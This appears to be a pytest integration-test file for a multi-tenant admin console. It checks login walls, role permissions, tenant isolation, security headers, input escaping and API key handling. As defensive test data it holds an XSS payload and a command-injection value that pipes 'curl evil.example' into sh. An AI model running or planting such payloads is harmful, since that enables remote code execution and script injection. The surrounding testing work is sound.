"""Walls and roles, on every page there is: no log-in, no role in the tenant, not enough of a role."""

from __future__ import annotations

import html
import re

import pytest

from revline.doors.console.pages.registry import PAGES
from revline.doors.console.values import Page
from revline.platform.access.roles import Permission, Role, may
from tests.integration.console.conftest import Desk

OF_TENANT = [page for page in PAGES if page.of_tenant]
GETS = [page for page in OF_TENANT if page.method == "GET"]
POSTS = [page for page in OF_TENANT if page.method == "POST"]


def path_of(page: Page, tenant: str) -> str:
    """The page's path with something in every place."""
    return re.sub(r"\{\w+:str\}", "something", page.full_path.replace("{tenant:str}", tenant))


def test_pages_are_named_and_placed_once() -> None:
    assert len({page.name for page in PAGES}) == len(PAGES)
    assert len({(page.method, page.full_path) for page in PAGES}) == len(PAGES)
    keys = [page.key for page in PAGES if page.key]
    assert len(set(keys)) == len(keys)


def test_nobody_sees_anything_before_a_log_in(desk: Desk) -> None:
    for page in PAGES:
        answer = (
            desk.get(path_of(page, "alpha"))
            if page.method == "GET"
            else desk.client.post(path_of(page, "alpha"), data={}, follow_redirects=False)
        )
        assert answer.status_code == 303, page.name
        assert answer.headers["location"].startswith("/login"), page.name


def test_a_tenant_without_a_role_is_as_one_that_is_not_there(desk: Desk) -> None:
    desk.person("ada@example.com", (Role.ADMINISTRATOR, "beta"), (Role.FINANCE, "beta"))
    desk.log_in("ada@example.com")
    token = desk.token("/profile")
    for page in OF_TENANT:
        told = []
        for tenant in ("alpha", "nowhere"):
            path = path_of(page, tenant)
            answer = desk.get(path) if page.method == "GET" else desk.client.post(path, data={"form_token": token})
            assert answer.status_code == 404, (page.name, tenant)
            told.append(re.sub(r"datetime=\S+|title=\"[^\"]+\"|\d\d:\d\d", "", answer.text.replace(tenant, "")))
        assert told[0] == told[1], page.name
        assert "alpha" not in told[0], page.name


@pytest.mark.parametrize("role", [Role.AUDITOR, Role.FINANCE, Role.OPERATOR])
def test_who_may_not_is_told_who_may(desk: Desk, role: Role) -> None:
    desk.person("ada@example.com", (role, "beta"))
    desk.log_in("ada@example.com")
    token = desk.token("/profile")
    for page in POSTS:
        if may([role], page.permission):
            continue
        answer = desk.client.post(path_of(page, "beta"), data={"form_token": token, "reason": "because"})
        assert answer.status_code == 403, page.name
        assert "access.forbidden" in answer.text, page.name
    for page in GETS:
        answer = desk.get(path_of(page, "beta"))
        expected = {200, 404} if may([role], page.permission) else {403}
        assert answer.status_code in expected, (page.name, answer.text)


def test_every_change_takes_more_than_reading() -> None:
    for page in POSTS:
        assert page.permission is not Permission.READ or page.name == "verify", page.name


def test_all_tenants_are_for_who_has_a_role_in_all(desk: Desk) -> None:
    desk.person("ada@example.com", (Role.OPERATOR, "beta"))
    desk.log_in("ada@example.com")
    answer = desk.get("/all")
    assert answer.status_code == 403
    assert "alpha" not in answer.text
    desk.person("olga@example.com", (Role.OPERATOR, "*"))
    desk.log_in("olga@example.com")
    assert "alpha" in desk.get("/all").text


def test_every_answer_is_framed_safely(desk: Desk) -> None:
    desk.person("ada@example.com", (Role.ADMINISTRATOR, "beta"))
    pages = [desk.get("/login"), desk.get("/nowhere")]
    desk.log_in("ada@example.com")
    pages += [desk.get(path) for path in ("/t/beta", "/t/beta/keys", "/t/alpha", "/profile", "/t/beta/audit?cursor=x")]
    for answer in pages:
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "unsafe" not in policy
        assert answer.headers["cache-control"] == "no-store"
        assert answer.headers["x-content-type-options"] == "nosniff"
        if answer.headers["content-type"].startswith("text/html"):
            assert not re.search(r"<script(?![^>]*\ssrc=)|\sstyle=|\son\w+=|javascript:", answer.text), answer.url


def test_what_people_wrote_is_never_markup(desk: Desk) -> None:
    desk.person("ada@example.com", (Role.ADMINISTRATOR, "beta"))
    desk.log_in("ada@example.com")
    evil = '<img src=x onerror="alert(1)">'
    added = desk.send(
        "/t/beta/people/add", {"email": "eve@example.com", "name": evil, "role": "auditor", "reason": evil}
    )
    assert added.status_code == 303
    text = desk.get("/t/beta/people").text
    assert evil not in text
    assert "&lt;img src=x" in text
    assert evil not in desk.get(f"/t/beta/audit?actor={evil}").text


def test_a_key_is_shown_once_and_ends_when_revoked(desk: Desk) -> None:
    desk.person("ada@example.com", (Role.ADMINISTRATOR, "beta"))
    desk.log_in("ada@example.com")
    made = desk.send("/t/beta/keys/issue", {"role": "ingest", "days": "30"})
    key = re.search(r"rk_([a-z2-7]{8})_[a-z2-7]{32}", made.text)
    assert key
    assert desk.runtime.services.access.verify(authorization=f"Bearer {key[0]}")
    listed = desk.get("/t/beta/keys").text
    assert key[1] in listed
    assert key[0] not in listed
    desk.send("/t/beta/keys/revoke", {"key": key[1], "reason": "lost"})
    assert desk.runtime.services.access.keys(tenant_id="beta")[0].revoked_at is not None


def test_nobody_takes_their_own_administrator_role(desk: Desk) -> None:
    ada = desk.person("ada@example.com", (Role.ADMINISTRATOR, "beta"))
    desk.log_in("ada@example.com")
    answer = desk.send("/t/beta/people/revoke", {"person": ada.person_id, "role": "administrator", "reason": "oops"})
    assert answer.status_code == 409
    other = desk.person("nils@example.com", (Role.AUDITOR, "alpha"))
    unseen = desk.send("/t/beta/people/revoke", {"person": other.person_id, "role": "auditor", "reason": "oops"})
    assert unseen.status_code == 404, "somebody of another tenant can't be touched from here"


def test_a_reason_is_asked_for(desk: Desk) -> None:
    desk.person("ada@example.com", (Role.ADMINISTRATOR, "beta"))
    desk.log_in("ada@example.com")
    answer = desk.send("/t/beta/people/add", {"email": "eve@example.com", "name": "Eve", "role": "auditor"})
    assert answer.status_code == 422
    assert "console.reason_missing" in answer.text


def test_who_runs_one_tenant_sets_no_password_that_opens_another(desk: Desk) -> None:
    desk.person("ada@example.com", (Role.ADMINISTRATOR, "alpha"))
    desk.log_in("ada@example.com")
    assert 'name="password"' not in desk.get("/t/alpha/people").text
    new = {"email": "victor@example.com", "name": "Victor", "role": "auditor", "reason": "joins"}
    refused = desk.send("/t/alpha/people/add", {**new, "password": "known to ada alone"})
    assert refused.status_code == 403
    assert desk.runtime.services.people.find(email="victor@example.com") is None
    assert desk.send("/t/alpha/people/add", new).status_code == 303
    desk.person("olga@example.com", (Role.ADMINISTRATOR, "*"))
    desk.log_in("olga@example.com")
    assert 'name="password"' in desk.get("/t/alpha/people").text
    made = desk.send("/t/alpha/people/add", {**new, "email": "vera@example.com", "password": "a long first one"})
    assert made.status_code == 303
    assert desk.log_in("vera@example.com", "a long first one").status_code == 303


def test_a_command_to_copy_is_one_command_whatever_was_searched(desk: Desk) -> None:
    desk.person("ada@example.com", (Role.AUDITOR, "beta"))
    desk.log_in("ada@example.com")
    shown = html.unescape(desk.client.get("/t/beta/trace", params={"id": "x; curl evil.example | sh #&a=b"}).text)
    assert "revline trace 'x; curl evil.example | sh #&a=b' --tenant beta" in shown
    assert "GET /v1/trace?value=x%3B+curl+evil.example+%7C+sh+%23%26a%3Db" in shown


def test_making_and_ending_a_key_is_on_record(desk: Desk) -> None:
    ada = desk.person("ada@example.com", (Role.ADMINISTRATOR, "beta"))
    desk.log_in("ada@example.com")
    desk.send("/t/beta/keys/issue", {"role": "ingest", "days": "30"})
    (key,) = desk.runtime.services.access.keys(tenant_id="beta")
    desk.send("/t/beta/keys/revoke", {"key": key.key_id, "reason": "lost it"})
    found = [
        (one.action, one.role, one.actor, one.reason)
        for one in desk.runtime.services.people.changes(tenant_id="beta")
        if one.person_id == f"key:{key.key_id}"
    ]
    assert found == [("key revoked", "ingest", ada.actor, "lost it"), ("key made", "ingest", ada.actor, "")]
    assert "key made" in desk.get("/t/beta/people").text
